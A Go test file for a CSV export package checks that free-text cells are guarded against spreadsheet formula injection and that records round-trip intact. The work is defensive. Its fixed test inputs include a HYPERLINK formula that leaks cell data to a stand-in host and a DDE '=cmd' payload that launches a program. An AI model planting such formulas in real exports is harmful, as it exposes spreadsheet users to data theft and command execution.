package tabular

import (
	"bytes"
	"encoding/csv"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/kpnode/kpnode/protocol"
)

// dangerousAlphabet builds the random cell texts: every character that can
// start a formula, quotes, separators, spaces and line breaks, and text.
var dangerousAlphabet = []string{"=", "+", "-", "@", "\t", "\r", "\n", "'", "'", `"`, ",", " ", "a", "Z", "ü", "1", "|", "(", ")"}

// TestCSVExportIsInertAndRoundTrips writes confirmations whose free text
// (names, licences, remarks) is random text built from the characters that
// start a formula, quotes and separators, then checks two things for each:
// no cell of the file, read by encoding/csv as a spreadsheet would, starts
// like a formula; and reading the file back gives the record exactly.
func TestCSVExportIsInertAndRoundTrips(t *testing.T) {
	rng := rand.New(rand.NewPCG(8, 13))
	fixed := []string{"=HYPERLINK(\"http://x/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)",
		"\t=1", " =1", "\n=1", "'=1", "''=1", "'", "''", "'s-Hertogenbosch", "'abc", "a=b", "-"}
	valid := 0
	for i := range 3000 {
		var texts [3]string
		for j := range texts {
			if i < len(fixed) {
				texts[j] = fixed[i]
				continue
			}
			var b strings.Builder
			for range 1 + rng.IntN(6) {
				b.WriteString(dangerousAlphabet[rng.IntN(len(dangerousAlphabet))])
			}
			texts[j] = b.String()
		}
		body := mutated(t, "import_confirmation.json", func(m map[string]any) {
			set("importer.name", texts[0])(m)
			set("exporter.licence", texts[1])(m)
			set("remarks", texts[2])(m)
		})
		want, _, err := canonicalRecord(protocol.ImportConfirmationType, body)
		if err != nil {
			continue // control characters in a one-line field, blank text: refused anyway
		}
		valid++
		checkCSVRoundTrip(t, "confirmations", want)
	}
	if valid < 500 {
		t.Fatalf("only %d of the random records were valid, want at least 500", valid)
	}
}

// checkCSVRoundTrip writes one canonical body as CSV and checks that the
// file is inert and reads back to the same body.
func checkCSVRoundTrip(t *testing.T, kindName string, want []byte) {
	t.Helper()
	kind, _ := LookupKind(kindName)
	var out bytes.Buffer
	if err := WriteTable(kind, &out, FormatCSV, [][]byte{want}); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(bytes.NewReader(out.Bytes()))
	r.LazyQuotes = true
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("encoding/csv cannot read the export: %v\n%s", err, out.Bytes())
	}
	for _, row := range rows {
		for _, cell := range row {
			if startsFormula(cell) {
				t.Errorf("cell %q of the export starts a formula", cell)
			}
		}
	}
	got, err := ReadTable(kind, "export.csv", bytes.NewReader(out.Bytes()), FormatCSV)
	if err != nil {
		t.Fatalf("read the export back: %v\n%s", err, out.Bytes())
	}
	if len(got) != 1 || !bytes.Equal(got[0], want) {
		t.Fatalf("round trip changed the record:\n got %s\nwant %s\nfile %q", got, want, out.Bytes())
	}
}

// startsFormula is the test's own statement of OWASP's rule: a cell must
// not start with =, +, -, @, tab or carriage return, nor with spaces or
// line breaks before one of the first four.
func startsFormula(cell string) bool {
	if cell == "" {
		return false
	}
	if strings.ContainsAny(cell[:1], "=+-@\t\r") {
		return true
	}
	t := strings.TrimLeft(cell, " \r\n\t")
	return t != "" && strings.ContainsAny(t[:1], "=+-@")
}

// TestCSVImportStripsOnlyTheGuard checks the reader on hand-written files:
// a quote before a formula-like value or a quote is taken off, any other
// leading quote stays.
func TestCSVImportStripsOnlyTheGuard(t *testing.T) {
	for in, want := range map[string]string{"'=1": "=1", "''x": "'x", "'s-Hertogenbosch": "'s-Hertogenbosch", "'-": "-", "x'": "x'"} {
		if got := unguardCell(in); got != want {
			t.Errorf("unguardCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestCSVNonTextColumnsCannotStartAFormula checks that the validator of
// every column that is not free text refuses values that start a formula
// (negative numbers included): the writer need not guard them, since it
// writes only valid records.
func TestCSVNonTextColumnsCannotStartAFormula(t *testing.T) {
	checked := 0
	for _, tk := range tableKinds {
		for _, c := range tk.columns {
			if freeText(c.cell) || c.path == "" {
				continue
			}
			path := strings.Replace(c.path, linePrefix, "lines[0].", 1)
			for _, lead := range []string{"=", "+", "-", "@"} {
				var v any = lead + "1"
				if c.cell == cellInteger {
					v = -1
				}
				body := mutated(t, tk.typ+".json", func(m map[string]any) {
					if strings.HasPrefix(path, "supersedes.") {
						m["supersedes"] = map[string]any{"seq": 1}
					}
					if c.cell == cellOrigin {
						set(path, []any{v})(m)
						return
					}
					set(path, v)(m)
				})
				checked++
				if err := protocol.ValidateRecord(tk.typ, body); err == nil {
					t.Errorf("%s column %s accepts %v", tk.name, c.name, v)
				}
			}
		}
	}
	if checked < 100 {
		t.Fatalf("checked %d values, want at least 100", checked)
	}
}

// FuzzCSVGuard checks, for any text, that the guarded cell never starts a
// formula and unguards to the text, and that a confirmation holding the
// text as its importer's name and its remarks exports to CSV and reads
// back identical.
func FuzzCSVGuard(f *testing.F) {
	for _, s := range []string{"=1+1", "'=1", "''", "'s-Hertogenbosch", " \n@x", "\t-", "+", "plain", `"=a,b"`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		g := guardCell(s)
		if startsFormula(g) || unguardCell(g) != s {
			t.Fatalf("guardCell(%q) = %q", s, g)
		}
		body := mutated(t, "import_confirmation.json", func(m map[string]any) {
			set("importer.name", s)(m)
			set("remarks", s)(m)
		})
		if want, _, err := canonicalRecord(protocol.ImportConfirmationType, body); err == nil {
			checkCSVRoundTrip(t, "confirmations", want)
		}
	})
}
